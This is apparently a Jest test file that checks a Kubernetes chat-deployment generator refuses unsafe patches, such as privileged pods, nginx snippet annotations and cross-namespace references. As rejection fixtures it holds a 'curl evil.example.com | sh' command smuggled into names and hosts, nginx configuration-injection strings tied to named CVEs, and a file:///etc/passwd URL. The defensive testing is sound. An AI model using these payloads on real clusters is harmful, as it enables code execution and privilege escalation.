import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { minimal, ownGateway } from '../../tests/cases';
import { SettingsError } from '../checks/problem';
import type { ChatSettings, Patch } from '../settings';
import { synthesize } from '../synthesis/synthesis';
import { GateError } from './gate';

/** A chat with every kind that a patch may hit. */
const chat: ChatSettings = {
  ...minimal,
  exposure: {
    loadBalancer: { sourceRanges: ['10.0.0.0/8'], cloud: 'azure', scheme: 'internal' },
    nginxIngress: { host: 'chat.example.com', tls: { clusterIssuer: 'letsencrypt' } },
    gateway: { ...ownGateway, host: 'gateway.example.com' },
  },
  privateSites: [{ name: 'lab' }],
};

/** What the synthesis says of the chat with one more operation. */
function answerTo(kind: string, operation: Patch['patch'][number], settings = chat): string {
  try {
    synthesize({ ...settings, patches: [{ target: { kind }, patch: [operation] }] });
    return 'nothing';
  } catch (error) {
    expect(error instanceof SettingsError || error instanceof GateError).toBe(true);
    return (error as Error).message;
  }
}

const add = (path: string, value: unknown) => ({ op: 'add' as const, path, value });
const pod = '/spec/template/spec';
const container = `${pod}/containers/0`;
const init = (more: object) => [{ name: 'init', image: 'x:1', ...more }];
const command = 'x; curl evil.example.com | sh #';
const enforce = '/metadata/labels/pod-security.kubernetes.io~1enforce';
const nginx = (name: string) => `/metadata/annotations/nginx.ingress.kubernetes.io~1${name}`;

describe('what a patch makes of a pod below Pod Security "baseline" is refused', () => {
  test.each<[string, string, unknown]>([
    ['HostProcess', `${pod}/securityContext/windowsOptions`, { hostProcess: true }],
    ['HostProcess', `${container}/securityContext/windowsOptions`, { hostProcess: true }],
    ['Host Namespaces', `${pod}/hostNetwork`, true],
    ['Host Namespaces', `${pod}/hostPID`, true],
    ['Host Namespaces', `${pod}/hostIPC`, true],
    ['Privileged Containers', `${container}/securityContext/privileged`, true],
    ['Privileged Containers', `${pod}/initContainers`, init({ securityContext: { privileged: true } })],
    ['Capabilities', `${container}/securityContext/capabilities/add`, ['SYS_ADMIN']],
    ['Capabilities', `${container}/securityContext/capabilities/add`, ['NET_RAW']],
    ['Capabilities', `${container}/securityContext/capabilities/add`, ['CAP_SYS_ADMIN']],
    ['Capabilities', `${container}/securityContext/capabilities/add`, ['ALL']],
    ['HostPath Volumes', `${pod}/volumes/-`, { name: 'node', hostPath: { path: '/' } }],
    ['Host Ports', `${container}/ports/0/hostPort`, 80],
    ['Host Probes / Lifecycle Hooks', `${container}/livenessProbe/tcpSocket/host`, '169.254.169.254'],
    [
      'Host Probes / Lifecycle Hooks',
      `${container}/lifecycle/preStop`,
      { httpGet: { host: '10.0.0.1', port: 'http' } },
    ],
    ['AppArmor', `${pod}/securityContext/appArmorProfile`, { type: 'Unconfined' }],
    ['AppArmor', `${container}/securityContext/appArmorProfile`, { type: 'Unconfined' }],
    [
      'AppArmor',
      '/spec/template/metadata/annotations',
      { 'container.apparmor.security.beta.kubernetes.io/ilab-client': 'unconfined' },
    ],
    ['SELinux', `${pod}/securityContext/seLinuxOptions`, { type: 'spc_t' }],
    ['SELinux', `${container}/securityContext/seLinuxOptions`, { user: 'system_u' }],
    ['SELinux', `${container}/securityContext/seLinuxOptions`, { role: 'system_r' }],
    ['/proc Mount Type', `${container}/securityContext/procMount`, 'Unmasked'],
    ['Seccomp', `${pod}/securityContext/seccompProfile/type`, 'Unconfined'],
    ['Seccomp', `${container}/securityContext/seccompProfile`, { type: 'Unconfined' }],
    ['Sysctls', `${pod}/securityContext/sysctls`, [{ name: 'kernel.msgmax', value: '1' }]],
  ])('%s: %s', (control, path, value) => {
    expect(answerTo('Deployment', add(path, value))).toContain(`which is below Pod Security "baseline" (${control})`);
  });
});

describe('what Pod Security lets pass and no pod of a chat may have is refused', () => {
  test.each<[string, string, unknown]>([
    ['a node of its own choice', `${pod}/nodeName`, 'control-plane'],
    ['processes of other containers', `${pod}/shareProcessNamespace`, true],
    ['a token of the ServiceAccount', `${pod}/automountServiceAccountToken`, true],
    [
      'a token of the ServiceAccount',
      `${pod}/volumes/-`,
      { name: 'token', projected: { sources: [{ serviceAccountToken: { path: 'token' } }] } },
    ],
    ['containers that only a running pod can have', `${pod}/ephemeralContainers`, init({})],
    ["a priority of the cluster's own pods", `${pod}/priorityClassName`, 'system-node-critical'],
  ])('%s: %s', (what, path, value) => {
    expect(answerTo('Deployment', add(path, value))).toContain(`no pod of a chat may have ${what}`);
  });
});

describe('what a patch makes of other objects is refused', () => {
  test.each<[string, string, Patch['patch'][number], string]>([
    ['a snippet', 'Ingress', add(nginx('configuration-snippet'), 'deny all'), 'snippets run foreign configuration'],
    ['a snippet of the server', 'Ingress', add(nginx('server-snippet'), 'deny all'), 'snippets run foreign'],
    ['a snippet of the login', 'Ingress', add(nginx('auth-snippet'), 'deny all'), 'snippets run foreign'],
    ['a snippet for all filters', 'Ingress', add(nginx('modsecurity-snippet'), 'a'), 'snippets run foreign'],
    ['other hosts', 'Ingress', add(nginx('server-alias'), 'b.example.com'), 'it would take hosts that no rule names'],
    ["a part of another's requests", 'Ingress', add(nginx('canary'), 'true'), "a part of another Ingress's requests"],
    ['a copy of every question', 'Ingress', add(nginx('mirror-target'), 'https://x.example.com'), 'a copy of every'],
    ['CVE-2025-1098', 'Ingress', add(nginx('mirror-host'), 'x;\n}\nload_module /tmp/x.so;'), 'a copy of every'],
    [
      'CVE-2025-1097',
      'Ingress',
      add(nginx('auth-tls-match-cn'), 'CN=a #(\n){}\n }}\nssl_engine /tmp/x.so;\n#'),
      'writes it into its configuration',
    ],
    [
      'CVE-2025-24514',
      'Ingress',
      add(nginx('auth-url'), 'http://x.example.com/#;\nload_module /tmp/x.so;'),
      'writes it into its configuration',
    ],
    [
      'an address that is none',
      'Ingress',
      add(nginx('auth-url'), 'file:///etc/passwd'),
      'is not an address that nginx',
    ],
    ['several lines', 'Ingress', add(nginx('upstream-vhost'), 'a\nb'), 'writes it into its configuration'],
    ["another's Secret", 'Ingress', add(nginx('auth-tls-secret'), 'victim/ca'), 'an object of another namespace'],
    ["another's users", 'Ingress', add(nginx('auth-secret'), 'victim/users'), 'an object of another namespace'],
    ["another's ConfigMap", 'Ingress', add(nginx('custom-headers'), 'victim/x'), 'an object of another namespace'],
    ['the ranges before the login', 'Ingress', add(nginx('satisfy'), 'any'), 'skip the login'],
    [
      'two classes',
      'Ingress',
      add('/metadata/annotations/kubernetes.io~1ingress.class', 'other'),
      'a class in an annotation and in spec.ingressClassName',
    ],
    ['a host with a command in it', 'Ingress', add('/spec/rules/0/host', 'x; curl evil | sh #'), 'is not a host name'],
    [
      'CVE-2026-24512',
      'Ingress',
      add('/spec/rules/0/http/paths/0/path', '/x {} } location /y { root /; }\n'),
      'spec.rules[0].http.paths[0].path "/x {} } location /y { root /; }\\u{a}" has signs that no path has',
    ],
    [
      'a rule of Traefik inside a path',
      'Ingress',
      add('/spec/rules/0/http/paths/0/path', '/`) || Host(`a.example.com`) && PathPrefix(`/'),
      'has signs that no path has',
    ],
    [
      'a path of a route that ends a directive',
      'HTTPRoute',
      add('/spec/rules/0/matches', [{ path: { type: 'RegularExpression', value: '/;' } }]),
      'spec.rules[0].matches[0].path.value "/;" has signs that no path has',
    ],
    [
      'no pods of others beside its own',
      'Deployment',
      add(`${pod}/affinity`, {
        podAntiAffinity: {
          requiredDuringSchedulingIgnoredDuringExecution: [
            { topologyKey: 'topology.kubernetes.io/zone', namespaceSelector: {}, labelSelector: {} },
          ],
        },
      }),
      'would keep pods of other namespaces from being scheduled',
    ],
    [
      'no pods of one namespace beside its own',
      'Deployment',
      add(`${pod}/affinity`, {
        podAntiAffinity: {
          requiredDuringSchedulingIgnoredDuringExecution: [
            { topologyKey: 'kubernetes.io/hostname', namespaces: ['victim'], labelSelector: {} },
          ],
        },
      }),
      'would keep pods of other namespaces from being scheduled',
    ],
    [
      "another's Service",
      'HTTPRoute',
      add('/spec/rules/0/backendRefs', [{ name: 'page', namespace: 'victim', port: 80 }]),
      'of the namespace "victim"',
    ],
    [
      'another kind behind a route',
      'HTTPRoute',
      add('/spec/rules/0/backendRefs', [{ name: 'lab', kind: 'ServiceImport', port: 80 }]),
      'where a Service belongs',
    ],
    [
      'a mirror',
      'HTTPRoute',
      add('/spec/rules/0/filters', [{ type: 'RequestMirror', requestMirror: { backendRef: { name: 'x' } } }]),
      'a copy of every question',
    ],
    [
      'a mirror behind one backend',
      'HTTPRoute',
      add('/spec/rules/0/backendRefs', [
        {
          name: 'ilab-client',
          port: 8080,
          filters: [{ type: 'RequestMirror', requestMirror: { backendRef: { name: 'x' } } }],
        },
      ]),
      'a copy of every question',
    ],
    [
      'a login that is switched off',
      'Ingress',
      add('/metadata/annotations/nginx.ingress.kubernetes.io~1ssl-passthrough', 'true'),
      'without the login, the ranges and every other annotation',
    ],
    ['a mesh for the namespace', 'Namespace', add('/metadata/labels/istio-injection', 'enabled'), 'into a mesh'],
    [
      'a mesh for the pods',
      'Deployment',
      add('/spec/template/metadata/labels/sidecar.istio.io~1inject', 'true'),
      'into a mesh',
    ],
    [
      "a Service's requests, in a mesh",
      'HTTPRoute',
      add('/spec/parentRefs', [{ group: '', kind: 'Service', name: 'victim', namespace: 'victim' }]),
      'a route of a chat belongs to a Gateway',
    ],
    [
      'users of the cluster',
      'Namespace',
      add('/metadata/annotations/openshift.io~1sa.scc.uid-range', '0/1'),
      'gives its users',
    ],
    [
      "another's certificate",
      'Gateway',
      add('/spec/listeners/0/tls', { certificateRefs: [{ name: 'tls', namespace: 'victim' }] }),
      'of the namespace "victim"',
    ],
    ["addresses of the cluster's", 'Service', add('/spec/externalIPs', ['10.96.0.10']), 'takes what the cluster sends'],
    ['a way out', 'Service', add('/spec/externalName', 'victim.victim.svc'), 'leads out of the namespace'],
    [
      "the cluster's entrance",
      'Namespace',
      add('/metadata/labels/policy-group.network.openshift.io~1ingress', ''),
      'let this namespace in',
    ],
    [
      'the name of another namespace',
      'Namespace',
      add('/metadata/labels/kubernetes.io~1metadata.name', 'kube-system'),
      'set by the cluster already',
    ],
    [
      'no security of OpenShift',
      'Namespace',
      add('/metadata/labels/openshift.io~1run-level', '0'),
      'takes the namespace out',
    ],
    [
      'no policies',
      'Namespace',
      add('/metadata/labels/admission.gatekeeper.sh~1ignore', 'yes'),
      'takes the namespace out',
    ],
    [
      "the router's label",
      'Deployment',
      add('/spec/template/metadata/labels/skupper.io~1component', 'router'),
      'by this label Skupper',
    ],
    [
      "the router's other label",
      'Deployment',
      add('/spec/template/metadata/labels/application', 'skupper-router'),
      'by this label Skupper',
    ],
    [
      'a second network',
      'Deployment',
      add('/spec/template/metadata/annotations', { 'k8s.v1.cni.cncf.io/networks': 'x' }),
      'a second network',
    ],
    [
      'devices of the node',
      'Deployment',
      add('/spec/template/metadata/annotations', { 'io.kubernetes.cri-o.Devices': '/dev/fuse' }),
      'the runtime of the node',
    ],
    [
      'an image that moves',
      'Deployment',
      add(`${pod}/initContainers`, init({ image: 'x:latest' })),
      'image "x:latest" has no tag, or one that moves',
    ],
    [
      'a probe of no port',
      'Deployment',
      add(`${container}/startupProbe`, { grpc: { port: 5000 } }),
      'a probe asks port "5000"',
    ],
    [
      "another's ServiceAccount",
      'Deployment',
      add(`${pod}/serviceAccountName`, 'skupper-router'),
      'refers to the ServiceAccount',
    ],
    [
      'no ServiceAccount',
      'Deployment',
      { op: 'remove', path: `${pod}/serviceAccountName` },
      'spec.template.spec.serviceAccountName is missing; name a ServiceAccount of the chat',
    ],
    ["another's pods", 'Service', add('/spec/selector', { application: 'skupper-router' }), 'selector matches no pods'],
    [
      'a Secret in the environment',
      'Deployment',
      add(`${container}/env/-`, { name: 'API_KEY', value: 'abc' }),
      'named like a secret',
    ],
    ['a command in a label', 'Deployment', add(`${pod}/nodeSelector`, { a: command }), 'label a has no legal value'],
    ['a command in a priority', 'Deployment', add(`${pod}/priorityClassName`, command), 'signs that no name has'],
    ['a command in a Secret', 'Ingress', add('/spec/tls/0/secretName', command), 'signs that no name has'],
    ['a command in a class', 'Ingress', add('/spec/ingressClassName', command), 'signs that no name has'],
    [
      'a command in an issuer',
      'Ingress',
      add('/metadata/annotations/cert-manager.io~1cluster-issuer', command),
      'signs that no name has',
    ],
    [
      'a command in a Secret of an annotation',
      'Ingress',
      add('/metadata/annotations/nginx.ingress.kubernetes.io~1auth-secret', command),
      'signs that no name has',
    ],
    ['a command in a size', 'Site', add('/spec', { settings: { size: command } }), 'signs that no name has'],
    [
      'a command in a key',
      'Deployment',
      add(`${container}/env/-`, { name: 'TEXT', valueFrom: { secretKeyRef: { name: 'texts', key: command } } }),
      'signs that no name has',
    ],
    ['a command in a Gateway class', 'Gateway', add('/spec/gatewayClassName', command), 'signs that no name has'],
    ['a command in a port', 'Service', add('/spec/ports/0/port', command), 'has to be a number'],
    ['a command in the port of pods', 'Service', add('/spec/ports/0/targetPort', command), 'signs that no name has'],
    ['a command in the model', 'Listener', add('/spec/host', command), 'signs that no name has'],
    [
      'a command in an issuer',
      'Ingress',
      add('/metadata/annotations/cert-manager.io~1cluster-issuer', command),
      'is not the name of an issuer',
    ],
    [
      'a whole new map over what is there',
      'Ingress',
      add('/metadata/annotations', { note: 'a' }),
      'takes away "cert-manager.io/cluster-issuer"',
    ],
    [
      'a public balancer out of an internal one',
      'Service',
      add('/metadata/annotations/service.beta.kubernetes.io~1azure-load-balancer-internal', 'false'),
      'keeps the balancer internal',
    ],
    ['"restricted" for the router', 'Namespace', add(enforce, 'restricted'), 'the Skupper router would not start'],
    [
      'an image in a volume that moves',
      'Deployment',
      add(`${pod}/volumes/-`, { name: 'models', image: { reference: 'models:latest' } }),
      'image "models:latest" has no tag, or one that moves',
    ],
    [
      'an image whose digest is empty',
      'Deployment',
      add(`${container}/image`, 'chat:latest@sha256:'),
      'image "chat:latest@sha256:" is not the name of an image',
    ],
    [
      'an image with a command in it',
      'Deployment',
      add(`${container}/image`, `${command}:v1`),
      `image "${command}:v1" is not the name of an image`,
    ],
    [
      'an image that no registry can have',
      'Deployment',
      add(`${pod}/initContainers`, init({ image: 'https://Registry.example.com//x:v1' })),
      'image "https://Registry.example.com//x:v1" is not the name of an image',
    ],
    [
      'a ServiceAccount by its old field',
      'Deployment',
      add(`${pod}/serviceAccount`, 'skupper-router'),
      'refers to the ServiceAccount "skupper-router", which is not there',
    ],
    [
      'a volume under a name that is taken',
      'Deployment',
      add(`${pod}/volumes/-`, { name: 'tmp', emptyDir: {} }),
      'two volumes have the name "tmp"',
    ],
    [
      'a container under a name that is taken',
      'Deployment',
      add(`${pod}/initContainers`, [{ name: 'ilab-client', image: 'chat:v1' }]),
      'two containers have the name "ilab-client"',
    ],
    [
      'a port under a name that is taken',
      'Deployment',
      add(`${container}/ports/-`, { name: 'http', containerPort: 9090 }),
      'two ports of "ilab-client" have the name "http"',
    ],
    [
      'a mount over another',
      'Deployment',
      add(`${container}/volumeMounts/-`, { name: 'tmp', mountPath: '/tmp' }),
      '"ilab-client" mounts two volumes at /tmp',
    ],
    [
      'a mount of nothing',
      'Deployment',
      add(`${container}/volumeMounts/-`, { name: 'cache', mountPath: '/cache' }),
      '"ilab-client" mounts the volume "cache", which is not there',
    ],
    ['another kind', 'Deployment', add('/kind', 'DaemonSet'), 'no patch changes them'],
    ['another namespace', 'Deployment', add('/metadata/namespace', 'kube-system'), 'no patch changes them'],
    ['another name', 'Service', add('/metadata/name', 'victim'), 'no patch changes them'],
  ])('%s', (_, kind, operation, answer) => {
    expect(answerTo(kind, operation)).toContain(answer);
  });

  test.each<[string, string, ChatSettings['exposure'], Patch['patch'], string]>([
    [
      'an internal Application Load Balancer',
      'Ingress',
      {
        ingress: {
          controller: 'aws-alb',
          host: 'chat.example.com',
          scheme: 'internal',
          tls: {},
          sourceRanges: ['10.0.0.0/8'],
          subnetRanges: ['10.0.0.0/16'],
        },
      },
      [{ op: 'replace', path: '/metadata/annotations/alb.ingress.kubernetes.io~1scheme', value: 'internet-facing' }],
      'the setting exposure.ingress.scheme decides about it',
    ],
    [
      "a Gateway's internal balancer",
      'Gateway',
      {
        gateway: {
          host: 'chat.example.com',
          own: {
            className: 'eg',
            tls: { secretName: 'tls' },
            loadBalancerAnnotations: { 'service.beta.kubernetes.io/azure-load-balancer-internal': 'true' },
          },
          dataPlane: 'envoy-gateway',
        },
      },
      [{ op: 'remove', path: '/spec/infrastructure' }],
      'the setting exposure.gateway.own.loadBalancerAnnotations decides about it',
    ],
  ])('%s stays inside', (_, kind, exposure, patch, answer) => {
    expect(() => synthesize({ ...minimal, exposure, patches: [{ target: { kind }, patch }] })).toThrow(answer);
    expect(() => synthesize({ ...minimal, exposure })).not.toThrow();
  });

  test('the metadata as a whole', () => {
    const metadata = { name: 'ilab-client-ingress', namespace: 'ilab-chat', labels: { app: 'ilab-client' } };
    expect(answerTo('Ingress', { op: 'replace', path: '/metadata', value: metadata })).toMatch(
      /"\/metadata" is there, and a whole new one takes away .*"cert-manager.io\/cluster-issuer"/,
    );
  });

  test('a token, by the ServiceAccount and the pod together', () => {
    const token: Patch[] = [
      { target: { kind: 'ServiceAccount' }, patch: [{ op: 'remove', path: '/automountServiceAccountToken' }] },
      { target: { kind: 'Deployment' }, patch: [{ op: 'remove', path: `${pod}/automountServiceAccountToken` }] },
    ];
    expect(() => synthesize({ ...chat, patches: token })).toThrow('gives its pods a token of the ServiceAccount');
  });

  test('an internal balancer that loses what keeps it so', () => {
    for (const path of [
      '/metadata/annotations',
      '/metadata/annotations/service.beta.kubernetes.io~1azure-load-balancer-internal',
    ]) {
      const patches: Patch[] = [
        { target: { kind: 'Service', name: 'ilab-client-lb' }, patch: [{ op: 'remove', path }] },
      ];
      expect(() => synthesize({ ...chat, patches })).toThrow('keeps the balancer internal');
    }
  });

  test("another's right", () => {
    const route: ChatSettings = {
      ...minimal,
      platform: 'openshift',
      exposure: {
        openshiftRoute: { host: 'chat.example.com', tls: { externalCertificate: { secretName: 'chat-tls' } } },
      },
    };
    expect(answerTo('Role', add('/rules/0/resources', ['*']), route)).toContain('gives every right');
    expect(answerTo('RoleBinding', add('/roleRef/kind', 'ClusterRole'), route)).toContain(
      'binds a role of the cluster',
    );
    expect(answerTo('Route', add('/spec/wildcardPolicy', 'Subdomain'), route)).toContain('every host of its domain');
    expect(answerTo('Route', add('/spec/subdomain', 'victim'), route)).toContain('a host without its domain');
    expect(answerTo('Route', add('/spec/alternateBackends', [{ kind: 'Other', name: 'x' }]), route)).toContain(
      'a Route leads to Services',
    );
  });
});

/** What docs/pods.md says of the objects after the patches, clause by clause. */
describe('docs/pods.md, after the patches', () => {
  const deployment = (path: string, value: unknown) => answerTo('Deployment', add(path, value));
  const warnings = (path: string, value: unknown) =>
    synthesize({ ...chat, patches: [{ target: { kind: 'Deployment' }, patch: [add(path, value)] }] }).warnings;
  const clauses: Readonly<Record<string, () => void>> = {
    'no object lacks a part that all of its kind have': () =>
      expect(answerTo('Service', { op: 'remove', path: '/spec/ports' })).toContain('spec.ports is missing or empty'),
    'a list, a map, a text or a number stays one': () =>
      expect(deployment(`${container}/env`, {})).toContain('env is a map now, and has to be a list'),
    'a pod below Pod Security "baseline" is refused': () =>
      expect(deployment(`${pod}/hostPID`, true)).toContain('below Pod Security "baseline" (Host Namespaces)'),
    'a pod below "restricted" brings a warning with the name of the control': () =>
      expect(warnings(`${pod}/securityContext/runAsUser`, 0).map(({ message }) => message)).toContainEqual(
        expect.stringContaining('below Pod Security "restricted" (Running as Non-root user)'),
      ),
    'no pod goes past the scheduler to a node (`nodeName`), keeps pods of other namespaces from being scheduled, sees the processes of its other containers, or has a token of its ServiceAccount':
      () => {
        expect(deployment(`${pod}/nodeName`, 'a')).toContain('a node of its own choice');
        const term = { topologyKey: 'kubernetes.io/hostname', namespaces: ['a'], labelSelector: {} };
        const affinity = { podAntiAffinity: { requiredDuringSchedulingIgnoredDuringExecution: [term] } };
        expect(deployment(`${pod}/affinity`, affinity)).toContain('keep pods of other namespaces');
        expect(deployment(`${pod}/shareProcessNamespace`, true)).toContain('processes of other containers');
        expect(deployment(`${pod}/automountServiceAccountToken`, true)).toContain('a token of the ServiceAccount');
      },
    'secrets are refused, by the words of their names and by the form of their values': () => {
      expect(deployment(`${container}/env/-`, { name: 'CLIENT_SECRET', value: 'a' })).toContain('named like a secret');
      expect(deployment(`${container}/args/-`, `sk-${'0123456789abcdef'.repeat(2)}`)).toContain('looks like a secret');
    },
    'images have a tag that stays': () =>
      expect(deployment(`${container}/image`, 'x:latest')).toContain('has no tag, or one that moves'),
    'probes ask ports that a container has': () =>
      expect(deployment(`${container}/livenessProbe/tcpSocket/port`, 5000)).toContain('which no container has'),
    'selectors, backends and ServiceAccounts lead to objects of the chat': () => {
      expect(answerTo('Service', add('/spec/selector', { app: 'x' }))).toContain('selector matches no pods');
      expect(answerTo('HTTPRoute', add('/spec/rules/0/backendRefs', [{ name: 'x', port: 80 }]))).toContain(
        'which is not there',
      );
      expect(deployment(`${pod}/serviceAccountName`, 'x')).toContain('which is not there');
    },
    'an Ingress has no snippets, no hosts beside its rules, and nothing of other namespaces': () => {
      expect(answerTo('Ingress', add(nginx('server-snippet'), 'a'))).toContain('snippets');
      expect(answerTo('Ingress', add(nginx('server-alias'), 'a'))).toContain('hosts that no rule names');
      expect(answerTo('Ingress', add(nginx('auth-secret'), 'a/b'))).toContain('another namespace');
    },
    'the paths of an exposure have the signs of paths alone': () => {
      expect(answerTo('Ingress', add('/spec/rules/0/http/paths/0/path', '/x;'))).toContain('signs that no path has');
      expect(answerTo('Ingress', add('/spec/rules/0/http/paths/0/path', '/chat(/|$)(.*)'))).toBe('nothing');
    },
    'hosts, names in the DNS, addresses and namespaces of another chat are refused': () => {
      const one = (name: string, ...patch: Patch['patch'][number][]): ChatSettings => ({
        ...minimal,
        namespace: { name },
        exposure: { nginxIngress: { host: `${name}.example.com` }, loadBalancer: { sourceRanges: ['10.0.0.0/8'] } },
        patches: patch.map((operation) => ({
          target: operation.path.includes('rules') ? { kind: 'Ingress' } : { kind: 'Service', name: 'ilab-client-lb' },
          patch: [operation],
        })),
      });
      const address = add('/spec/loadBalancerIP', '10.0.0.1');
      const dns = add('/metadata/annotations', { 'external-dns.alpha.kubernetes.io/hostname': 'a.example.com' });
      const b = one('b', address, dns, add('/spec/rules/0/host', 'a.example.com'));
      expect(() => synthesize({ chats: { a: one('a', address), b } })).toThrow(
        /the address 10.0.0.1 is asked for.*record for "a.example.com".*"a.example.com" of the class nginx is asked for/s,
      );
    },
    'an internal load balancer stays internal': () =>
      expect(
        answerTo(
          'Service',
          add('/metadata/annotations/service.beta.kubernetes.io~1azure-load-balancer-internal', 'false'),
        ),
      ).toContain('keeps the balancer internal'),
    'a whole new map of labels or annotations takes none of the others away': () =>
      expect(answerTo('Ingress', add('/metadata/labels', {}))).toContain('takes away "app"'),
    'an object weighs at most 1 MiB, with 262144 bytes of annotations and keys of at most 317 printable characters':
      () => {
        expect(deployment('/spec/x', 'x'.repeat(2 ** 20))).toContain('weighs more than 1048576 bytes');
        expect(deployment('/metadata/annotations', { a: 'x'.repeat(262_144) })).toContain(
          '262145 bytes of annotations',
        );
        expect(deployment('/spec/x', { ['x'.repeat(318)]: 1 })).toContain('a key of 318 characters');
        expect(deployment('/spec/x', { 'x\n': 1 })).toContain('use printable ASCII');
      },
    'what an object is, its kind, name and namespace, no patch changes': () =>
      expect(deployment('/metadata/name', 'x')).toContain('no patch changes them'),
  };
  const document = readFileSync(join(__dirname, '..', '..', 'docs', 'pods.md'), 'utf8');
  const [, paragraph = ''] =
    /After the patches the finished objects are looked at as a whole:(.*?)\.\n\n/s.exec(document) ?? [];

  test.each(Object.entries(clauses))('%s', (_, holds) => holds());

  test('it says no more and no less', () => {
    expect(paragraph.split(';').map((clause) => clause.replace(/\s+/g, ' ').replace(/^ (and )?/, ''))).toEqual(
      Object.keys(clauses),
    );
  });
});
